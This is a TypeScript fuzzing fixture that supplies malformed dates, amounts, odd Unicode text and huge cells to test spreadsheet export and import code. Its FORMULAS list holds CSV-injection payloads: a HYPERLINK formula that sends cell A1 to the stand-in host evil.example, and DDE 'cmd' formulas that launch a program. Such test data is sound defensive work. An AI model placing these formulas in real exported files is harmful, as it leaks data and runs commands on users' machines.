/**
 * Values that break importers in the wild: impossible dates, unreadable amounts, formula
 * cells (CSV injection), NUL bytes, stray quotes, huge cells. Shared by the export and
 * bundle fuzzers.
 */
import fc from 'fast-check';

export const BAD_DATES = [
  '2023-13-45',
  '2024-02-30',
  '31/02/2024',
  '0000-00-00',
  '9999-99-99 99:99:99',
  '2024-03-04T25:00:00Z',
  '2024-03-04 10:00:00 +99:00',
  '20241345T250000Z',
  '1/1/-5',
  '99/99/9999',
  '275760-09-14',
  '-000001-01-01',
  'yesterday',
  '',
];

export const BAD_AMOUNTS = [
  '12,3,4',
  '$$',
  '1e999',
  'NaN',
  'Infinity',
  '-',
  '--5',
  '1.2.3',
  '(12.00)',
  '٣٤٥',
  '99999999999999999999999999',
  '0x10',
  '5 000,00',
];

export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

export const ODD_TEXT = [
  'a\u0000b',
  '\u0000',
  '"',
  'a"b',
  'line\nbreak',
  '\r',
  '\uFFFD',
  '😀',
  '\u202Eevil',
  '\uD800',
  ';',
  '\t',
  'BEGIN:VCALENDAR',
];

/** A poisoned value: one of the lists above, random text, or a huge cell. */
export const poisonArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...BAD_DATES) },
  { weight: 3, arbitrary: fc.constantFrom(...BAD_AMOUNTS) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 2, arbitrary: fc.constantFrom(...ODD_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('x', '9', '"', '=', 'é'), fc.integer({ min: 1000, max: 50_000 }))
      .map(([c, n]) => c.repeat(n)),
  },
);
